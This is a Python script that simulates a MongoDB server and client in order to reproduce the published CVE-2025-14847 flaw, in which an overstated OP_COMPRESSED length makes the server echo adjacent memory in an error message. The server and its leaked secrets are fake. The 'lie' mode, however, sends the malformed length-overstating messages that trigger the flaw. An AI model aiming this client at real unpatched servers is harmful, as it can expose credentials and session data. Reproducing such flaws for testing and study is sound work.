#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""MongoDB's messages, honest ones and such that lie; no real server, but what its documents say.

usage: frames.py serve PORT
       frames.py drive HOST PORT          as a driver does that compresses: hello, then a list, a find
       frames.py lie HOST PORT TIMES      each message says that it holds more than it does

MongoDB Wire Protocol (OP_MSG, OP_COMPRESSED), bsonspec.org 1.1, and for what a server answers that is
not repaired: the advisory and the published analyses of CVE-2025-14847 (December 2025). The length
that a compressed message says is believed, so a document is read on into memory that held other
things; the error quotes it as the name of a field.
"""

import socket
import socketserver
import struct
import sys
import zlib

COMPRESSED, MESSAGE, ZLIB = 2012, 2013, 2
SAID_MORE = 8192
MEMORY = "session token 0123456789abcdef; password=hunter2; SELECT secret "


def element(name, value):
    key = name.encode() + b"\0"
    if isinstance(value, dict):
        return b"\3" + key + document(value)
    if isinstance(value, list):
        return b"\4" + key + document({str(n): v for n, v in enumerate(value)})
    if isinstance(value, str):
        raw = value.encode() + b"\0"
        return b"\2" + key + struct.pack("<i", len(raw)) + raw
    if isinstance(value, float):
        return b"\1" + key + struct.pack("<d", value)
    if isinstance(value, bool):
        return b"\x08" + key + bytes([value])
    return b"\x10" + key + struct.pack("<i", value)


def document(members):
    body = b"".join(element(name, value) for name, value in members.items())
    return struct.pack("<i", len(body) + 5) + body + b"\0"


def message(number, answers, members):
    body = struct.pack("<IB", 0, 0) + document(members)
    return struct.pack("<iiii", len(body) + 16, number, answers, MESSAGE) + body


def compressed(plain, more=0):
    """The same in OP_COMPRESSED by zlib, which says to hold `more` bytes than it does."""
    packed = zlib.compress(plain[16:])
    _, number, answers, code = struct.unpack("<iiii", plain[:16])
    return struct.pack("<iiiiiiB", 25 + len(packed), number, answers, COMPRESSED, code,
                       len(plain) - 16 + more, ZLIB) + packed


def receive(stream):
    """(request, opcode, its body as it was sent uncompressed, how many bytes it lacks), or None"""
    head = stream.read(16)
    if len(head) < 16:
        return None
    length, number, _, code = struct.unpack("<iiii", head)
    body, lacks = stream.read(length - 16), 0
    if code == COMPRESSED:
        code, said, _ = struct.unpack("<iiB", body[:9])
        body = zlib.decompress(body[9:])
        lacks = said - len(body)
    return number, code, body, lacks


ANSWERS = {
    b"hello": {"isWritablePrimary": True, "maxBsonObjectSize": 16777216, "maxWireVersion": 21,
               "minWireVersion": 0, "compression": ["zlib"], "ok": 1.0},
    b"buildInfo": {"version": "7.0.14", "gitVersion": "ce59cfc6", "bits": 64, "ok": 1.0},
}


def refusal(name):
    return {"ok": 0.0, "errmsg": f"Command {name.decode()} requires authentication", "code": 13,
            "codeName": "Unauthorized"}


class Server(socketserver.StreamRequestHandler):
    def handle(self):
        while told := receive(self.rfile):
            number, _, body, lacks = told
            name = body[10:body.index(b"\0", 10)]  # behind flags, kind, length and type
            if lacks:
                found = (MEMORY * 30)[number % 60:][:600 + number % 300]
                self.wfile.write(message(number + 1, number, {
                    "ok": 0.0, "errmsg": f"invalid bson field name '{found}'", "code": 2,
                    "codeName": "BadValue"}))
                continue
            answer = message(number + 1, number, ANSWERS.get(name) or refusal(name))
            self.wfile.write(answer if name == b"hello" else compressed(answer))


def drive(host, port):
    with socket.create_connection((host, port)) as made:
        stream = made.makefile("rb")
        made.sendall(message(1, 0, {"hello": 1, "compression": ["zlib"], "$db": "admin"}))
        receive(stream)
        for number, asked in enumerate(({"buildInfo": 1, "$db": "admin"},
                                        {"listDatabases": 1, "$db": "admin"},
                                        {"find": "log", "filter": {}, "$db": "shop"}), 2):
            made.sendall(compressed(message(number, 0, asked)))
            assert receive(stream)[3] == 0


def lie(host, port, times):
    with socket.create_connection((host, port)) as made:
        stream = made.makefile("rb")
        for number in range(times):
            made.sendall(compressed(message(number, 0, {"a": 1}), SAID_MORE))
            receive(stream)


def main():
    if sys.argv[1] == "serve":
        print("no real server, but what MongoDB's documents say", flush=True)
        socketserver.ThreadingTCPServer(("0.0.0.0", int(sys.argv[2])), Server).serve_forever()
    elif sys.argv[1] == "drive":
        drive(sys.argv[2], int(sys.argv[3]))
    else:
        lie(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))


if __name__ == "__main__":
    main()
